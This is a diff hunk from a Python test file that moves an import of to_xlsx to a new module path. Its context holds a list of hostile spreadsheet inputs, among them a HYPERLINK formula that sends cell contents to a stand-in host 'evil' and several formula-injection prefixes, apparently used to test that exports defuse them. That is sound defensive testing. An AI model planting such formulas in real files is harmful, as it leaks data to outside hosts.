@@ -10,7 +10,7 @@ import sys
 import openpyxl
 
 from issue11_helpers import ROOT, env  # noqa: F401 (fixtures)
-from kg.tables import to_xlsx
+from kg.present.tables import to_xlsx
 
 HOSTILE = ['=HYPERLINK("http://evil/?"&A1,"x")', "+1+1", "-2+3", "@SUM(A1)", "\tx", "\rx"]
 
